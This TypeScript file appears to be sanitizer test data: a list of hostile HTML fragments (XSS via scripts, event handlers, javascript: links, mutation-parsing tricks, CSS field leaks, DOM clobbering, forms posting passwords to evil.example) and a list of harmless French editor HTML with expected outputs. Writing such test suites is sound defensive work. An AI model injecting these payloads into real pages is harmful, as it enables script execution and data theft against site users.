/**
 * HTML that a stolen editor's account or a careless paste could insert, by name. Each tries to run `hit()`,
 * to reach `evil.example`, or to take over the surrounding page.
 */
export const hostileFragments: Readonly<Record<string, string>> = {
  // Scripts
  script: '<script>hit()</script>',
  'script of another site': '<script src="https://evil.example/x.js"></script>',
  'script in odd case': '<ScRiPt>hit()</sCrIpT>',
  'script with a slash for a blank': '<script/x>hit()</script>',
  'script never closed': '<script>hit()//',
  'script in pieces': '<scr<script>ipt>hit()</scr</script>ipt>',
  'module script': '<script type="module">hit()</script>',
  'script in a comment that ends early': '<!--><script>hit()</script>-->',
  'script behind a conditional comment': '<!--[if gte IE 4]><script>hit()</script><![endif]-->',
  // Event handlers
  'picture that fails': '<img src=x onerror=hit()>',
  'picture that fails, quoted': '<img src="x" onerror="hit()">',
  'picture that loads': '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="hit()">',
  'handler behind a slash': '<img/src=x/onerror=hit()>',
  'handler after a broken quote': '<img """><img src=x onerror=hit()>',
  'handler behind a null': '<img src=x one\u0000rror=hit()>',
  'handler behind a line break': '<img src=x\nonerror\n=\nhit()>',
  'handler in odd case': '<p OnMouseOver="hit()">ici</p>',
  'focus at once': '<input autofocus onfocus=hit()>',
  'focusable paragraph': '<p tabindex=0 autofocus onfocus=hit()>ici</p>',
  'opened details': '<details open ontoggle=hit()><summary>a</summary>b</details>',
  'animation that starts':
    '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="hit()">a</p>',
  'transition that ends': '<p style="transition:1ms" ontransitionend="hit()">a</p>',
  'video that fails': '<video><source onerror="hit()"></video>',
  'audio that fails': '<audio src=x onerror=hit()></audio>',
  marquee: '<marquee onstart=hit()>a</marquee>',
  'body that loads': '<body onload=hit()>a</body>',
  'scrolled list': '<ul onscroll=hit()><li>a</ul>',
  'wheel, pointer, copy': '<p onwheel=hit() onpointerenter=hit() oncopy=hit()>a</p>',
  // Links
  'javascript link': '<a href="javascript:hit()">a</a>',
  'javascript link in odd case': '<a href="JaVaScRiPt:hit()">a</a>',
  'javascript link with a tab': '<a href="java&#9;script:hit()">a</a>',
  'javascript link with a line break': '<a href="java&#10;script:hit()">a</a>',
  'javascript link behind a control character': '<a href="&#1;javascript:hit()">a</a>',
  'javascript link behind blanks': '<a href="  &#x20;javascript:hit()">a</a>',
  'javascript link in entities':
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;hit()">a</a>',
  'javascript link with a named colon': '<a href="javascript&colon;hit()">a</a>',
  'javascript link without semicolons': '<a href="&#x6A&#x61&#x76&#x61script:hit()">a</a>',
  'javascript link with a soft hyphen': '<a href="java\u00adscript:hit()">a</a>',
  'javascript link of several lines': '<a href="javascript://%0ahit()">a</a>',
  'vbscript link': '<a href="vbscript:hit()">a</a>',
  'data link': '<a href="data:text/html,<script>hit()</script>">a</a>',
  'data link in base 64': '<a href="data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==">a</a>',
  'data link to a drawing':
    '<a href="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22hit()%22/>">a</a>',
  'blob link': '<a href="blob:https://evil.example/1">a</a>',
  'file link': '<a href="file:///etc/passwd">a</a>',
  'link without a scheme': '<a href="//evil.example/">a</a>',
  'link with backslashes': '<a href="\\\\evil.example\\">a</a>',
  'link with mixed slashes': '<a href="/\\evil.example/">a</a>',
  'link that takes over the opener': '<a href="https://evil.example" target="_blank">a</a>',
  'link that names a window': '<a href="/cgv" target="_top" rel="opener">a</a>',
  'link that calls home': '<a href="/cgv" ping="https://evil.example/ping">a</a>',
  'link that downloads': '<a href="/cgv" download="x.exe">a</a>',
  'map of links': '<map name=m><area href="javascript:hit()" shape=default></map><img usemap=#m>',
  'mail with a second line': '<a href="mailto:a@example.fr%0d%0abcc:b@example.fr\nX">a</a>',
  // Content loaded from elsewhere
  'picture of another site': '<img src="https://evil.example/pixel.png">',
  'picture without a scheme': '<img src="//evil.example/pixel.png">',
  'picture by srcset': '<img srcset="https://evil.example/pixel.png 1x">',
  'picture of a set':
    '<picture><source srcset="https://evil.example/pixel.png"><img alt=a></picture>',
  'slow source': '<img lowsrc="https://evil.example/a.png" dynsrc="https://evil.example/b.png">',
  'background of a table': '<table background="https://evil.example/a.png"><tr><td>a</table>',
  'background of a cell': '<table><tr><td background="https://evil.example/a.png">a</table>',
  'poster of a video': '<video poster="https://evil.example/a.png"></video>',
  'track of a video': '<video><track src="https://evil.example/a.vtt" default></video>',
  'style sheet': '<link rel=stylesheet href="https://evil.example/a.css">',
  'address asked for ahead':
    '<link rel=dns-prefetch href="//evil.example"><link rel=prefetch href="//evil.example/a">',
  'quoted source': '<blockquote cite="javascript:hit()">a</blockquote>',
  // Styles
  'style element': '<style>body{display:none}</style>',
  'style that imports': '<style>@import url(https://evil.example/a.css);</style>',
  'style attribute over the page':
    '<p style="position:fixed;inset:0;background:url(https://evil.example/a.png)">a</p>',
  'style expression': '<p style="width:expression(hit())">a</p>',
  'style binding': '<p style="-moz-binding:url(//evil.example/a.xml#b)">a</p>',
  'style that leaks a field':
    '<style>input[value^=a]{background:url(https://evil.example/a)}</style>',
  'class of the page': '<div class="tp-hidden">a</div>',
  // Frames and objects
  frame: '<iframe src="https://evil.example"></iframe>',
  'frame with its own text': '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  'frame that runs': '<iframe src="javascript:parent.hit()"></iframe>',
  object: '<object data="javascript:hit()"></object>',
  'object of another site': '<object data="https://evil.example/a.svg"></object>',
  embed: '<embed src="javascript:hit()">',
  applet: '<applet code="a" archive="https://evil.example/a.jar"></applet>',
  frameset: '<frameset onload=hit()><frame src="javascript:hit()"></frameset>',
  portal: '<portal src="https://evil.example"></portal>',
  // Forms
  'form that leaves': '<form action="https://evil.example"><input name=password><button>OK</form>',
  'button that leaves': '<form id=f></form><button form=f formaction="javascript:hit()">a</button>',
  'picture that sends': '<form><input type=image src=x formaction="javascript:hit()"></form>',
  isindex: '<isindex action="javascript:hit()" type=image>',
  'field that asks for a password': '<label>Mot de passe <input type=password></label>',
  'select and textarea': '<select onchange=hit()><option>a</select><textarea>a</textarea>',
  keygen: '<keygen autofocus onfocus=hit()>',
  // The document itself
  base: '<base href="https://evil.example/">',
  'meta that leads away': '<meta http-equiv=refresh content="0;url=https://evil.example">',
  'meta that runs': '<meta http-equiv=refresh content="0;url=javascript:hit()">',
  'title, head, html': '<html><head><title>a</title></head><body bgcolor=red>a',
  template: '<template><img src=x onerror=hit()></template>',
  'template with a shadow':
    '<div><template shadowrootmode=open><script>hit()</script></template></div>',
  'custom element': '<x-a is="p" onclick=hit()>a</x-a>',
  slot: '<slot onslotchange=hit()>a</slot>',
  // SVG and MathML
  'drawing that loads': '<svg onload=hit()></svg>',
  'drawing with a script': '<svg><script>hit()</script></svg>',
  'drawing with a script of another site': '<svg><script href="https://evil.example/a.js"/></svg>',
  'drawing that uses another':
    '<svg><use href="https://evil.example/a.svg#x"/><use xlink:href="data:image/svg+xml,a#x"/></svg>',
  'drawing that animates a link':
    '<svg><a><animate attributeName=href values="javascript:hit()"/><text>a</text></a></svg>',
  'drawing that sets a handler': '<svg><set attributeName=onmouseover to="hit()"/></svg>',
  'drawing that begins': '<svg><animate onbegin=hit() attributeName=x dur=1s></svg>',
  'drawing with foreign text':
    '<svg><foreignObject><img src=x onerror=hit()><iframe srcdoc=a></foreignObject></svg>',
  'drawing with a link':
    '<svg><a xlink:href="javascript:hit()"><rect width=9 height=9 /></a></svg>',
  'drawing with a picture': '<svg><image href="https://evil.example/a.png"/></svg>',
  'drawing with a style': '<svg><style>@import "https://evil.example/a.css"</style></svg>',
  'drawing behind a handler name':
    '<svg><handler xmlns:ev="a" ev:event="load">hit()</handler></svg>',
  'formula with a link':
    '<math><maction actiontype="statusline" xlink:href="javascript:hit()">a</maction></math>',
  'formula that leads away': '<math href="javascript:hit()">a</math>',
  'formula with an annotation':
    '<math><annotation-xml encoding="text/html"><img src=x onerror=hit()></annotation-xml></math>',
  // Markup that changes when it is parsed twice
  'noscript that is read twice':
    '<noscript><p title="</noscript><img src=x onerror=hit()>"></noscript>',
  'comment in a style': '<style><!--</style><img src=x onerror=hit()>//--></style>',
  'title in a drawing': '<svg></p><style><a id="</style><img src=1 onerror=hit()>"></style></svg>',
  'formula that swaps its namespace':
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>',
  'table that swaps its namespace':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;">',
  'drawing that swaps its namespace':
    '<svg><desc><table><thead><s></table></s><table><thead><s></thead></table></thead><style><img src=x onerror=hit()></style></desc></svg>',
  'text area that ends early': '<textarea><img title="</textarea><img src=x onerror=hit()>">',
  'xmp that ends early': '<xmp><p title="</xmp><img src=x onerror=hit()>">',
  'noembed that ends early': '<noembed><p title="</noembed><img src=x onerror=hit()>">',
  'plain text to the end': 'a<plaintext><img src=x onerror=hit()>',
  'character data': '<![CDATA[<img src=x onerror=hit()>]]>',
  'processing instruction': '<?xml-stylesheet href="javascript:hit()"?><?php hit() ?>',
  'attribute broken by a backtick': '<img src="`><img src=x onerror=hit()>`">',
  'entity that becomes a tag':
    '&lt;img src=x onerror=hit()&gt;<p title="&lt;script&gt;hit()">a</p>',
  'deep nesting': `${'<div>'.repeat(600)}<img src=x onerror=hit()>${'</div>'.repeat(600)}`,
  // Names that shadow properties used by the page's code
  'form that hides attributes': '<form><input name=attributes><input name=parentNode>a</form>',
  'name of the document': '<img name=body><img name=getElementById><a id=location>a</a>',
  'name of the main part': '<div id=contenu>a</div><div id=root>b</div>',
  'name of the window': '<a id=fetch name=fetch href="javascript:hit()">a</a>',
  // Elements that open above the page
  dialog: '<dialog open onclose=hit()><form method=dialog><button>a</button></form></dialog>',
  popover: '<button popovertarget=p>a</button><p id=p popover onbeforetoggle=hit()>b</p>',
  'invoker of a command':
    '<button command="show-modal" commandfor=d>a</button><dialog id=d>b</dialog>',
  'text that one may edit': '<p contenteditable oninput=hit()>a</p>',
  'role that misleads': '<div role="alert" aria-label="Votre compte est bloqué">a</div>',
  'data for a script': '<p data-toggle="x" data-bind="text: hit()">a</p>',
  'template language': '<p>{{constructor.constructor("hit()")()}} ${hit()}</p>',
};

/** Ordinary HTML of editors, with its expected result; by default unchanged. */
export const harmlessFragments: readonly (readonly [html: string, becomes?: string])[] = [
  ['<p>Deux tunnels, <strong>aucun</strong> <em>feu</em> rouge.</p>'],
  ['<h2>Article 1</h2><h3>Objet</h3><h4>Détail</h4><p>Texte.</p>'],
  ['<h1>Grand titre</h1>', '<h2>Grand titre</h2>'],
  ['<ul><li>un</li><li>deux<ul><li>trois</li></ul></li></ul><ol start="3"><li>a</li></ol>'],
  ['<dl><dt>Hauteur</dt><dd>3,20 m</dd></dl>'],
  ['<blockquote>Cité</blockquote><hr><pre>  deux  blancs</pre>'],
  ['<p>x<sup>2</sup>, H<sub>2</sub>O, <mark>marqué</mark>, <abbr title="Télépéage">TP</abbr></p>'],
  ['<p>L’été à l’Évêché – 3,20&nbsp;€&nbsp;; «&nbsp;œuvre&nbsp;»</p>'],
  ['<p>R&amp;D &lt;3 &eacute;t&eacute;&nbsp;!</p>', '<p>R&amp;D &lt;3 été&nbsp;!</p>'],
  ['<p><a href="/cgv">CGV</a></p>'],
  ['<p><a href="faq#prix">Prix</a></p>', '<p><a href="/faq#prix">Prix</a></p>'],
  ['<p><a href="/documents/rapport.pdf">Rapport</a></p>'],
  [
    '<p><a href="https://www.example.org/page?a=1&amp;b=2">Ailleurs</a></p>',
    '<p><a href="https://www.example.org/page?a=1&amp;b=2" rel="noopener noreferrer">Ailleurs</a></p>',
  ],
  ['<p><a href="mailto:contact@example.fr">Écrire</a> <a href="tel:+33199001320">Appeler</a></p>'],
  [
    '<p><img src="images/port.jpg" alt="Le port" width="640" height="240"></p>',
    '<p><img src="/images/port.jpg" alt="Le port" width="640" height="240" loading="lazy" decoding="async"></p>',
  ],
  [
    '<figure><img src="data:image/png;base64,AAAA"><figcaption>Légende</figcaption></figure>',
    '<figure><img src="data:image/png;base64,AAAA" alt="" loading="lazy" decoding="async"><figcaption>Légende</figcaption></figure>',
  ],
  [
    '<table><caption>Tarifs</caption><thead><tr><th scope="col">Trajet</th><th scope="col">Prix</th></tr></thead><tbody><tr><td colspan="2">3,20&nbsp;€</td></tr></tbody></table>',
    '<div tabindex="0" role="region" aria-label="Tarifs"><table><caption>Tarifs</caption><thead><tr><th scope="col">Trajet</th><th scope="col">Prix</th></tr></thead><tbody><tr><td colspan="2">3,20&nbsp;€</td></tr></tbody></table></div>',
  ],
  [
    '<p style="color:red" class="MsoNormal" id="x">Collé de Word<o:p></o:p></p>',
    '<p>Collé de Word</p>',
  ],
  ['<p>Un <font color="red">mot</font> <b>gras</b></p>', '<p>Un mot <b>gras</b></p>'],
  ['<p src="1" href="/a">Une adresse sans emploi</p>', '<p>Une adresse sans emploi</p>'],
  ['Du texte seul', 'Du texte seul'],
  ['<p>Jamais fermé', '<p>Jamais fermé</p>'],
  ['', ''],
];
